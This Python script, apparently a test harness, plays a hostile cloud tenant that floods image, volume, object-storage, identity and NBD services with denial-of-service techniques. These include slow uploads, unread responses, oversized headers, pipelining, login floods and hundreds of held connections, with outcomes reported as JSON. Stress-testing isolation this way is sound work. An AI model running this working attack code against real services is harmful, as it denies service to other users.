"""A tenant who does what harms others most, from 127.0.0.2, for a while. Prints the outcomes of each attack as JSON.

Usage: attacker.py CONFIG, a JSON object: http, nbd (HOST:PORT), token, project, images and volumes (IDs), container, export,
seconds.
"""

import collections
import json
import random
import socket
import struct
import sys
import threading
import time

config = json.loads(sys.argv[1])
end = time.monotonic() + config["seconds"]
outcomes = collections.defaultdict(collections.Counter)
own_address = ("127.0.0.2", 0)


def running():
    return time.monotonic() < end


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def connect(where=config["http"]):
    return socket.create_connection(address(where), timeout=20, source_address=own_address)


def head(method, path, more=""):
    return (
        f"{method} {path} HTTP/1.1\r\nHost: {config['http']}\r\nX-Auth-Token: {config['token']}\r\n{more}\r\n"
    ).encode()


def status(connection):
    """Of the next response, as text; its body is not read."""
    line = b""
    while b"\r\n" not in line:
        piece = connection.recv(4096)
        if not piece:
            return "closed"
        line += piece
    return line.split(b" ", 2)[1].decode()


def attack(work):
    """Runs the work again and again, and counts how each run ended."""

    def loop():
        while running():
            try:
                outcomes[work.__name__][work()] += 1
            except OSError as error:
                outcomes[work.__name__][type(error).__name__] += 1
                time.sleep(0.02)

    return loop


def one(request):
    with connect() as connection:
        connection.sendall(request)
        return status(connection)


volumes = f"/volume/v3/{config['project']}"
objects = f"/v1/AUTH_{config['project']}/{config['container']}"


def hold_unread(path):
    """Asks, reads nothing, and stays."""
    with connect() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for _ in range(8):
            connection.sendall(head("GET", path))
        time.sleep(3)
        return status(connection)


def unread_images():
    return hold_unread("/image/v2/images?limit=1000")


def unread_volumes():
    return hold_unread(f"{volumes}/volumes/detail")


def awkward_filters():
    return one(head("GET", "/image/v2/images?name=in:" + "+" * 4000 + "a%22"))


def awkward_ranges():
    return one(head("GET", f"{objects}/0000", "Range: bytes=" + " " * 31000 + "x\r\n"))


def pipelined_lists():
    with connect() as connection:
        connection.sendall(head("GET", f"{objects}?format=json") * 100)
        answered = 0
        while answered < 100 and running():
            piece = connection.recv(1 << 20)
            if not piece:
                return "closed"
            answered += piece.count(b"HTTP/1.1 ")
        return "answered"


def limits():
    return one(head("GET", f"{volumes}/limits"))


def unknown_logins():
    user = "".join(random.choices("abcdefghij", k=12))
    body = json.dumps(
        {
            "auth": {
                "identity": {
                    "methods": ["password"],
                    "password": {"user": {"name": user, "domain": {"id": "default"}, "password": user}},
                }
            }
        }
    )
    more = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
    return one(head("POST", "/v3/auth/tokens", more) + body.encode())


def slow_uploads():
    with connect() as connection:
        name = random.randrange(1 << 40)
        connection.sendall(head("PUT", f"{objects}-slow/{name}", "Content-Length: 100000000\r\n"))
        connection.settimeout(0.5)
        while running():
            connection.sendall(b"x" * 512)
            try:
                return status(connection)
            except TimeoutError:
                pass
        return "uploading"


def idle_connections():
    held = []
    try:
        while running():
            if len(held) < 300:
                held.append(connect())
            else:
                time.sleep(0.5)
        return "held"
    finally:
        for connection in held:
            connection.close()


def nbd_connections():
    """Many connections to one export, which then ask for nothing."""
    held = []
    try:
        while running() and len(held) < 300:
            connection = connect(config["nbd"])
            held.append(connection)
            if len(connection.recv(18, socket.MSG_WAITALL)) < 18:
                return "closed"
            name = config["export"].encode()
            option = struct.pack(">I", len(name)) + name + struct.pack(">H", 0)
            connection.sendall(struct.pack(">I", 3) + b"IHAVEOPT" + struct.pack(">II", 7, len(option)) + option)
            reply = connection.recv(20, socket.MSG_WAITALL)
            if len(reply) < 20:
                return "closed"
            kind = struct.unpack(">QIII", reply)[2]
            if kind >= 1 << 31:
                return "refused"
        while running():
            time.sleep(0.5)
        return "held"
    finally:
        for connection in held:
            connection.close()


crowd = [
    (unread_images, 20),
    (unread_volumes, 20),
    (awkward_filters, 4),
    (awkward_ranges, 4),
    (pipelined_lists, 8),
    (limits, 16),
    (unknown_logins, 20),
    (slow_uploads, 70),
    (idle_connections, 4),
    (nbd_connections, 3),
]
threads = [threading.Thread(target=attack(work), daemon=True) for work, count in crowd for _ in range(count)]
for thread in threads:
    thread.start()
print("under way", flush=True)
for thread in threads:
    thread.join(max(0, end + 25 - time.monotonic()))
print(json.dumps({work.__name__: dict(outcomes[work.__name__]) for work, _ in crowd}), flush=True)
